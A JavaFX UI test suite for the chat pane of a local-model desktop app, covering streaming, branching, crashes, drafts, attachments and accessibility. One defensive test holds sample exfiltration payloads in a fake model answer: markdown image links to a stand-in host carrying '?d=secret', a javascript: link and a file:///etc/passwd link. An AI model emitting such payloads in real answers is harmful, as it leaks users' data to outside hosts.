package studio.athanor.desktop.chat;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.function.BooleanSupplier;
import javafx.scene.Node;
import javafx.scene.Parent;
import javafx.scene.control.Button;
import javafx.scene.control.Control;
import javafx.scene.control.Label;
import javafx.scene.control.Labeled;
import javafx.scene.control.ScrollBar;
import javafx.scene.control.ScrollPane;
import javafx.scene.control.TextArea;
import javafx.scene.control.TextField;
import javafx.scene.control.TextInputControl;
import javafx.scene.input.KeyCode;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.testfx.api.FxRobot;
import org.testfx.api.FxToolkit;
import org.testfx.util.WaitForAsyncUtils;
import studio.athanor.core.chat.Attachment;
import studio.athanor.core.chat.ConversationId;
import studio.athanor.core.chat.Turn;
import studio.athanor.core.models.ModelRef;
import studio.athanor.desktop.testkit.ChatStudio;
import studio.athanor.desktop.testkit.FakeAnswer;
import studio.athanor.engines.spi.Failure;
import studio.athanor.engines.spi.text.Message;
import studio.athanor.engines.spi.text.ToolCall;

/** The pane on the real core, with a model that the test speaks for. */
@SuppressWarnings("NullAway.Init") // set before each test
class ChatPaneTest {

    private static final Duration PATIENCE = Duration.ofSeconds(30);

    private final FxRobot robot = new FxRobot();
    private final List<Throwable> failures = new CopyOnWriteArrayList<>();

    @TempDir
    private Path home;

    private ChatStudio studio;
    private ChatWindow window;

    @BeforeAll
    static void startToolkit() throws TimeoutException {
        FxToolkit.registerPrimaryStage();
    }

    @BeforeEach
    void open() throws Exception {
        Thread.setDefaultUncaughtExceptionHandler((thread, failure) -> failures.add(failure));
        studio = new ChatStudio(home);
        openWindow();
    }

    @AfterEach
    void close() throws Exception {
        closeWindow();
        studio.close();
        assertThat(failures).isEmpty();
    }

    private void openWindow() throws Exception {
        window = fx(() -> new ChatWindow(studio, 1280, 800));
    }

    private void closeWindow() throws Exception {
        fx(() -> {
            window.close();
            return window;
        });
    }

    // ---- asking ----

    @Test
    void sendsStreamsAndShowsHowItWent() throws Exception {
        assertThat(state()).isEqualTo(ChatState.EMPTY);
        type("What is the capital of France?");
        press(KeyCode.ENTER);
        FakeAnswer answer = studio.opener().next();
        assertThat(answer.messages().getLast().content()).isEqualTo("What is the capital of France?");
        answer.prompt(3, 8);
        until(() -> state() == ChatState.PROCESSING_PROMPT && label("#stage").contains("3 / 8"));
        answer.text("The capital of France ");
        until(() -> state() == ChatState.STREAMING);
        until(() -> transcriptText().contains("The capital of France"));
        assertThat(button("#send").getText()).isEqualTo("Stop");
        answer.text("is **Paris**.");
        answer.done();
        until(() -> state() == ChatState.IDLE);
        until(() -> transcriptText().contains("is Paris."));
        until(() -> transcriptText().contains("412 tokens · 84 tok/s · 120 ms · stop"));
        assertThat(button("#send").getText()).isEqualTo("Send");
        until(() -> label("#context-use").startsWith("ctx 15/"));
        assertThat(fx(() -> window.find("#composer").isFocused())).isTrue();
    }

    @Test
    void stopsWithEscapeAndKeepsWhatCame() throws Exception {
        ask("Count");
        FakeAnswer answer = studio.opener().next();
        answer.text("one two");
        until(() -> transcriptText().contains("one two"));
        assertThat(fx(() -> window.pane().onEscape())).isTrue();
        answer.awaitCancel();
        until(() -> state() == ChatState.IDLE);
        assertThat(transcriptText()).contains("one two");
        until(() -> transcriptText().contains("stopped by you"));
        assertThat(fx(() -> window.pane().onEscape())).isFalse();
    }

    @Test
    void breaksTheLineWithShiftAndEnter() throws Exception {
        type("one");
        robot.push(KeyCode.SHIFT, KeyCode.ENTER);
        robot.write("two");
        assertThat(fx(() -> area("#composer").getText())).isEqualTo("one\ntwo");
        assertThat(state()).isEqualTo(ChatState.EMPTY);
    }

    @Test
    void asksAnExampleOfTheEmptyStateWithOnePress() throws Exception {
        assertThat(transcriptAndEmpty()).contains("tiny starter model");
        fx(() -> {
            ((Button) window.find(".example")).fire();
            return true;
        });
        assertThat(studio.opener().next().messages().getLast().content()).isEqualTo("What is the capital of France?");
    }

    @Test
    void foldsWhatTheModelThought() throws Exception {
        ask("Think");
        FakeAnswer answer = studio.opener().next();
        answer.reasoning("A hidden thought.");
        until(() -> transcriptText().contains("Thinking…"));
        answer.text("Said.");
        answer.done();
        until(() -> state() == ChatState.IDLE);
        assertThat(transcriptText()).contains("Thought").doesNotContain("A hidden thought.");
        fx(() -> {
            ((Button) window.find(".reasoning-header .button")).fire();
            return true;
        });
        until(() -> transcriptText().contains("A hidden thought."));
    }

    @Test
    void showsToolCallsAsBlocks() throws Exception {
        ask("Call");
        studio.opener()
                .next()
                .call(new ToolCall("1", "get_weather", "{\"city\":\"Paris\"}"))
                .done();
        until(() -> transcriptText().contains("Calls get_weather"));
        assertThat(transcriptText()).contains("{\"city\":\"Paris\"}");
    }

    // ---- branches ----

    @Test
    void answersAgainOnABranchAndGoesBack() throws Exception {
        answered("Pick a number", "One.");
        fx(() -> {
            window.model().regenerate(window.model().messages().getLast());
            return true;
        });
        studio.opener().next().text("Two.").done();
        until(() -> state() == ChatState.IDLE);
        until(() -> transcriptText().contains("2/2") && transcriptText().contains("Two."));
        fx(() -> {
            MessageHeader header = (MessageHeader) window.column().placed().stream()
                    .map(VirtualColumn.Placed::node)
                    .filter(MessageHeader.class::isInstance)
                    .toList()
                    .getLast();
            header.requestFocus();
            return true;
        });
        press(KeyCode.LEFT);
        until(() -> transcriptText().contains("1/2") && transcriptText().contains("One."));
        assertThat(transcriptText()).doesNotContain("Two.");
    }

    @Test
    void editsAQuestionIntoABranch() throws Exception {
        answered("What is 1 + 1?", "2");
        fx(() -> {
            Button edit = (Button) window.stage().getScene().getRoot().lookupAll(".message-actions .button").stream()
                    .filter(node -> "Edit and send again".equals(node.getAccessibleText()))
                    .findFirst()
                    .orElseThrow();
            edit.fire();
            return true;
        });
        until(() -> window.stage().getScene().lookup("#message-editor") != null
                && area("#message-editor").isFocused());
        fx(() -> {
            area("#message-editor").setText("What is 2 + 2?");
            return true;
        });
        robot.push(KeyCode.CONTROL, KeyCode.ENTER);
        FakeAnswer answer = studio.opener().next();
        assertThat(answer.messages()).extracting(Message::content).containsExactly("What is 2 + 2?");
        answer.text("4").done();
        until(() -> state() == ChatState.IDLE);
        until(() -> transcriptText().contains("2/2"));
        assertThat(transcriptText()).contains("What is 2 + 2?", "4").doesNotContain("What is 1 + 1?");
    }

    @Test
    void goesOnWithAnAnswerThatWasStopped() throws Exception {
        ask("Tell");
        FakeAnswer first = studio.opener().next();
        first.text("Once upon");
        until(() -> transcriptText().contains("Once upon"));
        fx(() -> {
            window.model().stop();
            return true;
        });
        first.awaitCancel();
        until(() -> state() == ChatState.IDLE);
        fx(() -> {
            window.model().continueAnswer(window.model().messages().getLast());
            return true;
        });
        studio.opener().next().text(" a time.").done();
        until(() -> state() == ChatState.IDLE);
        until(() -> transcriptText().contains("Once upon a time."));
    }

    // ---- trouble ----

    @Test
    void saysThatTheWorkerDiedAndLoadsItAgain() throws Exception {
        ask("Crash");
        FakeAnswer answer = studio.opener().next();
        answer.text("Half an");
        answer.fail(new Failure(
                Failure.Kind.WORKER_DIED, "The process was killed.", "Load it again.", Optional.of("last lines")));
        until(() -> state() == ChatState.WORKER_DIED);
        assertThat(transcriptText()).contains("Half an");
        assertThat(fx(() -> text((Parent) window.find("#trouble")))).contains("The process was killed.", "kept");
        fx(() -> {
            ((Button) window.find("#load-again")).fire();
            return true;
        });
        until(() -> state() == ChatState.IDLE);
        assertThat(fx(() -> window.find("#trouble").isVisible())).isFalse();
        ask("Again");
        studio.opener().next().text("Alive.").done();
        until(() -> transcriptText().contains("Alive."));
    }

    @Test
    void namesTheDeviceThatWasLostAndOffersToLoadAgain() throws Exception {
        ask("Unplug");
        FakeAnswer answer = studio.opener().next();
        answer.text("Half an");
        answer.fail(
                new Failure(Failure.Kind.DEVICE_LOST, "The card X is gone.", "Ask again.", Optional.of("last lines")));
        until(() -> state() == ChatState.WORKER_DIED);
        assertThat(transcriptText()).contains("Half an");
        assertThat(fx(() -> text((Parent) window.find("#trouble"))))
                .contains("The card X is gone. What had been written is kept. Ask again.");
        assertThat(button("#load-again").isVisible()).isTrue();
    }

    @Test
    void saysThatTheFileOfTheModelIsGone() throws Exception {
        fx(() -> {
            window.choose(new ModelRef("file:" + home.resolve("gone.gguf")));
            return true;
        });
        until(() -> state() == ChatState.NO_MODEL);
        assertThat(transcriptAndEmpty()).contains("not there any more", "gone");
        assertThat(button("#choose-model").getText()).isEqualTo("Choose a model…");
        fx(() -> {
            window.choose(studio.library().starter().orElseThrow().ref());
            return true;
        });
        until(() -> state() == ChatState.EMPTY);
    }

    // ---- the list ----

    @Test
    void findsConversationsAsOneTypes() throws Exception {
        answered("Tell me about zebras", "They have stripes.");
        startNew();
        answered("Tell me about lions", "They roar.");
        until(() -> rows().size() == 2);
        fx(() -> {
            ((TextField) window.find("#conversation-search")).setText("strip");
            return true;
        });
        until(() -> rows().equals(List.of("Tell me about zebras")));
        fx(() -> {
            ((TextField) window.find("#conversation-search")).clear();
            return true;
        });
        until(() -> rows().size() == 2);
    }

    @Test
    void keepsADraftOfEachConversation() throws Exception {
        answered("First", "One.");
        ConversationId first = fx(() -> window.model().openId().orElseThrow());
        type("draft of the first");
        startNew();
        until(() -> area("#composer").getText().isEmpty());
        type("draft of a new one");
        fx(() -> {
            window.model().open(first);
            return true;
        });
        until(() -> area("#composer").getText().equals("draft of the first"));
        closeWindow();
        openWindow();
        until(() -> area("#composer").getText().equals("draft of the first"));
        until(() -> transcriptText().contains("One."));
        startNew();
        until(() -> area("#composer").getText().equals("draft of a new one"));
    }

    @Test
    void keepsTheFilesOfADraftAcrossRestarts() throws Exception {
        answered("First", "One.");
        attach("old.txt", "of the first");
        startNew();
        until(() -> attached().isEmpty());
        attach("new.txt", "of a new one");
        closeWindow();
        await().until(() ->
                !studio.openChats().store().draftFiles(Optional.empty()).isEmpty());
        openWindow();
        until(() -> attached().equals(List.of("new.txt")));
        fx(() -> {
            window.model()
                    .open(window.model()
                            .services()
                            .store()
                            .list(0, 1)
                            .getFirst()
                            .id());
            return true;
        });
        until(() -> attached().equals(List.of("old.txt")));
        ask("Send it");
        FakeAnswer answer = studio.opener().next();
        assertThat(answer.messages().getLast().content()).contains("of the first");
        answer.text("Two.").done();
        until(() -> state() == ChatState.IDLE && attached().isEmpty());
        closeWindow();
        openWindow();
        until(() -> transcriptText().contains("Two."));
        assertThat(attached()).isEmpty();
        startNew();
        until(() -> attached().equals(List.of("new.txt")));
    }

    @Test
    void keepsPinnedConversationsAtTheTopAcrossRestarts() throws Exception {
        answered("Keep me", "Yes.");
        ConversationId first = fx(() -> window.model().openId().orElseThrow());
        startNew();
        answered("Newer", "Yes.");
        until(() -> rows().equals(List.of("Newer", "Keep me")));
        fx(() -> {
            window.model().open(first);
            return true;
        });
        until(() -> window.model().openId().equals(Optional.of(first)));
        press(KeyCode.CONTROL, KeyCode.SHIFT, KeyCode.P);
        until(() -> rows().equals(List.of("Keep me", "Newer")) && headings().equals(List.of("Pinned", "Today")));
        closeWindow();
        openWindow();
        until(() -> rows().equals(List.of("Keep me", "Newer")) && headings().equals(List.of("Pinned", "Today")));
        until(() -> window.model().openId().equals(Optional.of(first)));
        press(KeyCode.CONTROL, KeyCode.SHIFT, KeyCode.P);
        until(() -> headings().equals(List.of("Today")));
    }

    @Test
    void putsAConversationInTheTrashAndTakesItOutAgain() throws Exception {
        answered("Throw me away", "Yes.");
        until(() -> rows().size() == 1);
        fx(() -> {
            window.context().shortcuts().command("chat.delete").orElseThrow().run();
            return true;
        });
        until(() -> rows().isEmpty() && state() == ChatState.EMPTY);
        fx(() -> {
            window.context()
                    .notices()
                    .open()
                    .getLast()
                    .remedy()
                    .orElseThrow()
                    .action()
                    .run();
            return true;
        });
        until(() -> rows().size() == 1);
    }

    @Test
    void renamesAConversation() throws Exception {
        answered("A long first question", "Yes.");
        until(() -> rows().size() == 1);
        fx(() -> {
            window.context().shortcuts().command("chat.rename").orElseThrow().run();
            return true;
        });
        until(() -> window.stage().getScene().lookup("#rename-field") != null);
        fx(() -> {
            TextField field = (TextField) window.find("#rename-field");
            field.setText("Short");
            field.getOnAction().handle(new javafx.event.ActionEvent());
            return true;
        });
        until(() -> rows().equals(List.of("Short")));
    }

    // ---- files ----

    @Test
    void attachesTextFilesAndRefusesOthersWithASentence() throws Exception {
        Path good = Files.writeString(home.resolve("notes.txt"), "remember this");
        Path binary = Files.write(home.resolve("photo.bin"), new byte[] {1, 0, 2});
        Path big = Files.write(home.resolve("big.txt"), new byte[1_000_001]);
        fx(() -> {
            window.model().composer().attach(List.of(good, binary, big, home));
            return true;
        });
        until(() -> window.model().composer().attachments().size() == 1
                && window.context().notices().open().size() == 3);
        assertThat(window.context().notices().open())
                .anySatisfy(notice -> assertThat(notice.sentence()).contains("big.txt", "1.0 MB"));
        type("Read it");
        press(KeyCode.ENTER);
        FakeAnswer answer = studio.opener().next();
        assertThat(answer.messages().getLast().content()).contains("remember this", "Read it");
        answer.text("Read.").done();
        until(() -> state() == ChatState.IDLE);
        assertThat(transcriptText()).contains("notes.txt · 13 B");
    }

    // ---- settings ----

    @Test
    void keepsTheSettingsOfEachConversation() throws Exception {
        answered("Hello", "Hi.");
        fx(() -> {
            TextField temperature = (TextField) window.find("#dial-temperature");
            temperature.setText("0.25");
            temperature.getOnAction().handle(new javafx.event.ActionEvent());
            return true;
        });
        assertThat(fx(() -> window.model().settings().get().sampling().temperature()))
                .isEqualTo(0.25f);
        fx(() -> {
            TextField temperature = (TextField) window.find("#dial-temperature");
            temperature.setText("99");
            temperature.getOnAction().handle(new javafx.event.ActionEvent());
            return true;
        });
        assertThat(fx(() -> window.model().settings().get().sampling().temperature()))
                .isEqualTo(0.25f);
        ask("Again");
        FakeAnswer answer = studio.opener().next();
        assertThat(answer.request().sampling().temperature()).isEqualTo(0.25f);
        answer.text("Yes.").done();
        until(() -> state() == ChatState.IDLE);
        ConversationId id = fx(() -> window.model().openId().orElseThrow());
        startNew();
        assertThat(fx(() -> window.model().settings().get().sampling().temperature()))
                .isNotEqualTo(0.25f);
        fx(() -> {
            window.model().open(id);
            return true;
        });
        until(() -> window.model().settings().get().sampling().temperature() == 0.25f);
    }

    @Test
    void takesOnlyASchemaThatIsAnObject() throws Exception {
        for (String bad : List.of("{", "[1]", "{} x", "{'a': 1}")) {
            fx(() -> {
                area("#json-schema").setText(bad);
                return true;
            });
            assertThat(fx(() -> window.model().settings().get().jsonSchema())).isEmpty();
        }
        fx(() -> {
            area("#json-schema").setText("{\"type\": \"object\"}");
            return true;
        });
        assertThat(fx(() -> window.model().settings().get().jsonSchema())).contains("{\"type\": \"object\"}");
    }

    // ---- everybody ----

    @Test
    void everyControlHasAName() throws Exception {
        answered("Hello", "- a [link](https://example.org)\n\n```java\nint a;\n```");
        ask("Crash");
        studio.opener()
                .next()
                .fail(new Failure(Failure.Kind.WORKER_DIED, "It died.", "Load it.", Optional.of("details")));
        until(() -> state() == ChatState.WORKER_DIED);
        fx(() -> {
            ((Button) window.find("#advanced")).fire();
            return true;
        });
        assertThat(fx(() -> nameless(window.stage().getScene().getRoot()))).isEmpty();
    }

    @Test
    void fetchesNothingWhateverAnAnswerHolds() throws Exception {
        answered("Show", """
                ![](https://evil.example/?d=secret) ![a][r] <img src="https://evil.example/i">
                [x](javascript:alert(1)) [y](file:///etc/passwd) <https://evil.example/auto>

                [r]: https://evil.example/?d=reference
                """);
        until(() -> transcriptText().contains("evil.example"));
        assertThat(fx(() -> window.column().content().lookupAll(".image-view"))).isEmpty();
        assertThat(fx(() -> images(window.stage().getScene().getRoot()))).isEmpty();
    }

    // ---- reading the window ----

    private static List<Node> images(Parent parent) {
        List<Node> found = new ArrayList<>();
        for (Node child : parent.getChildrenUnmodifiable()) {
            if (child instanceof javafx.scene.image.ImageView) {
                found.add(child);
            }
            if (child instanceof Parent branch) {
                found.addAll(images(branch));
            }
        }
        return found;
    }

    private void ask(String text) throws Exception {
        fx(() -> {
            window.model().send(text);
            return true;
        });
    }

    private void answered(String question, String answer) throws Exception {
        ask(question);
        studio.opener().next().text(answer).done();
        until(() -> state() == ChatState.IDLE
                && window.model().messages().getLast().turn() != null
                && window.model().messages().getLast().turn().state() == Turn.State.COMPLETE);
    }

    private void startNew() throws Exception {
        fx(() -> {
            window.context().shortcuts().command("chat.new").orElseThrow().run();
            return true;
        });
    }

    private void type(String text) throws Exception {
        fx(() -> {
            area("#composer").requestFocus();
            area("#composer").setText(text);
            area("#composer").end();
            return true;
        });
    }

    private void attach(String name, String text) throws Exception {
        Path file = Files.writeString(home.resolve(name), text);
        fx(() -> {
            window.model().composer().attach(List.of(file));
            return true;
        });
        until(() -> attached().contains(name));
    }

    private List<String> attached() {
        return window.model().composer().attachments().stream()
                .map(Attachment::name)
                .toList();
    }

    private void press(KeyCode... keys) {
        robot.push(keys);
        WaitForAsyncUtils.waitForFxEvents();
    }

    private ChatState state() {
        return window.model().state().get();
    }

    private TextArea area(String selector) {
        return (TextArea) window.find(selector);
    }

    private Button button(String selector) throws Exception {
        return fx(() -> (Button) window.find(selector));
    }

    private String label(String selector) {
        return ((Label) window.find(selector)).getText();
    }

    private List<String> rows() {
        return ((javafx.scene.control.ListView<?>) window.find("#conversations"))
                .getItems().stream()
                        .filter(ConversationRow.Entry.class::isInstance)
                        .map(row -> ((ConversationRow.Entry) row).summary().title())
                        .toList();
    }

    private List<String> headings() {
        return ((javafx.scene.control.ListView<?>) window.find("#conversations"))
                .getItems().stream()
                        .filter(ConversationRow.Heading.class::isInstance)
                        .map(row -> ((ConversationRow.Heading) row).title())
                        .toList();
    }

    private String transcriptText() {
        return text(window.column().content());
    }

    private String transcriptAndEmpty() throws Exception {
        return fx(() -> text(window.stage().getScene().getRoot()));
    }

    private static String text(Parent parent) {
        StringBuilder out = new StringBuilder();
        for (Node child : parent.getChildrenUnmodifiable()) {
            if (child instanceof studio.athanor.desktop.markdown.LeafNode leaf) {
                out.append(leaf.leaf().text()).append('\n');
            } else if (child instanceof Labeled labeled) {
                out.append(labeled.getText()).append('\n');
            } else if (child instanceof Parent branch) {
                out.append(text(branch));
            }
        }
        return out.toString();
    }

    private static List<String> nameless(Parent parent) {
        List<String> found = new ArrayList<>();
        for (Node child : parent.getChildrenUnmodifiable()) {
            boolean exempt = child instanceof ScrollBar || child instanceof Label || child instanceof ScrollPane;
            if (child instanceof Control control && child.isFocusTraversable() && !exempt && !hasName(control)) {
                found.add(control.getClass().getSimpleName() + " #" + control.getId() + " " + control.getStyleClass());
            }
            if (child instanceof Parent branch && !(child instanceof TextInputControl)) {
                found.addAll(nameless(branch));
            }
        }
        return found;
    }

    private static boolean hasName(Control control) {
        String spoken = control.getAccessibleText();
        return (spoken != null && !spoken.isBlank())
                || (control instanceof Labeled labeled
                        && labeled.getText() != null
                        && !labeled.getText().isBlank());
    }

    private static void until(BooleanSupplier condition) {
        await().atMost(PATIENCE).until(() -> fx(condition::getAsBoolean));
    }

    private static <T> T fx(Callable<T> work) throws Exception {
        return WaitForAsyncUtils.asyncFx(work).get(PATIENCE.toSeconds(), TimeUnit.SECONDS);
    }
}
